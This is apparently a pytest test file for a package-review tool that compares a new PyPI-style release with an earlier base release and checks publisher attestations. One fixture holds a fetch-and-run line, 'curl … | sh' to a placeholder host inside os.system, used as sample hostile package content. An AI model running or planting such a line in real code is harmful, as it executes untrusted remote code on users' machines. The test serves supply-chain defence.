"""An upload is compared with the release that `pratique review NAME==VERSION` would compare it with."""

from __future__ import annotations

import json

import pytest
from sqlalchemy import select

from pratique.batch import read_all
from pratique.ecosystems import Target
from pratique.model import Budget
from pratique.releases import Against, Desk, plan, read_release
from pratique.service.beside import OPTIONS, thaw
from pratique.store import queue, verdicts
from pratique.store.tables import artifacts, jobs
from standin.registry import wheel

DAY = 86_400
QUIET = {"acme/__init__.py": b"VALUE = 1\n"}
LOUD = {"acme/__init__.py": b"import os\nos.system('curl https://a.invalid/x | sh')\n"}


@pytest.fixture
def two(registry):
    """A project with a release that stood for 40 days, and one of today that does more."""
    registry.upload(*wheel("acme", "1.0", QUIET)).uploaded -= 40 * DAY
    registry.upload(*wheel("acme", "2.0", LOUD))
    return registry


def newest(world, version="2.0"):
    with world.store.read() as connection:
        (found,) = verdicts.by_release(connection, "pypi", "acme", version)
        return verdicts.document(connection, found.id)


def due(world):
    with world.store.write() as connection:
        connection.execute(jobs.update().where(jobs.c.state == "pending").values(due_at=0))


def test_the_review_is_that_of_the_command_line(two, world, follower, work):
    follower.poll()
    assert {one.state for one in work()} == {"done"}
    found = newest(world)

    def alone(works):
        return read_all(works, OPTIONS, jobs=0, cache=world.cache)

    desk = Desk(world.registry, alone, Budget(), lambda _: None)
    target = Target(kind="project", text="acme==2.0", name="acme", version="2.0")
    (by_hand,) = [one.review for one in read_release(desk, plan(world.registry, target), Against())]

    assert found.compared is not None
    assert found.compared.base.package.version == "1.0"
    assert found.changes
    assert (found.context, found.changes, found.findings) == (by_hand.context, by_hand.changes, by_hand.findings)
    assert newest(world, "1.0").compared is None


def attested(repository):
    bundle = {"publisher": {"kind": "GitHub", "repository": repository}}
    return json.dumps({"version": 1, "attestation_bundles": [bundle]}).encode()


def test_who_attests_to_an_upload_is_asked_and_held_against_its_base(registry, world, follower, work):
    """The integrity API of the index is evidence in a fleet too."""
    old = registry.upload(*wheel("acme", "1.0", QUIET), provenance=attested("acme/acme"))
    old.uploaded -= 40 * DAY
    registry.upload(*wheel("acme", "2.0", QUIET | {"acme/more.py": b"A = 1\n"}), provenance=attested("other/acme"))
    follower.poll()
    work()

    assert "change-its-publisher" in {one.rule for one in newest(world).findings}
    assert "change-its-publisher" not in {one.rule for one in newest(world, "1.0").findings}


def test_what_it_is_compared_with_is_chosen_once(two, world, follower, worker):
    """The base disappears and another release comes before the second delivery: the key stays."""
    follower.poll()
    with world.store.write() as connection:
        (job,) = [one for one in queue.claim(connection, "w", most=9) if one.version == "2.0"]
    first = worker.review(job)
    two.remove_release("acme", "1.0")
    two.upload(*wheel("acme", "1.5", QUIET)).uploaded -= 20 * DAY
    with world.store.write() as connection:
        connection.execute(jobs.update().values(state="pending", attempts=0))
        (again,) = [one for one in queue.claim(connection, "w", most=9) if one.id == job.id]
        packed = connection.execute(select(artifacts.c.beside).where(artifacts.c.id == job.artifact_id)).scalar_one()

    assert first.found.review.context == worker.review(again).found.review.context
    held = thaw(packed, first.found.review.artifact)
    assert [one.package.version for one, _ in held.bases.candidates] == ["1.0"]


def test_a_base_that_does_not_come_is_waited_for_and_then_done_without(two, world, follower, work):
    two.fault("/files/.*acme-1.0", status=403, times=1000)
    follower.poll()
    states = []
    for _ in range(5):
        states += [one.state for one in work() if one.filename.startswith("acme-2.0")]
        due(world)

    assert states == ["pending", "pending", "pending", "done"]
    assert newest(world).compared is None


def test_a_base_that_was_taken_down_is_done_without(two, world, follower, work):
    two.fault("/files/.*acme-1.0", status=404, times=1000)
    follower.poll()

    assert [one.state for one in work() if one.filename.startswith("acme-2.0")] == ["done"]


def test_a_plan_of_another_version_is_no_plan(a_file):
    assert thaw(b"no plan", a_file).bases.candidates == ()
    assert thaw(None, a_file).new.artifacts == (a_file,)


@pytest.fixture
def a_file():
    from pratique.model import Artifact, Package

    package = Package(ecosystem="pypi", name="acme", version="1.0")
    return Artifact(package=package, filename="acme-1.0-py3-none-any.whl", kind="wheel")
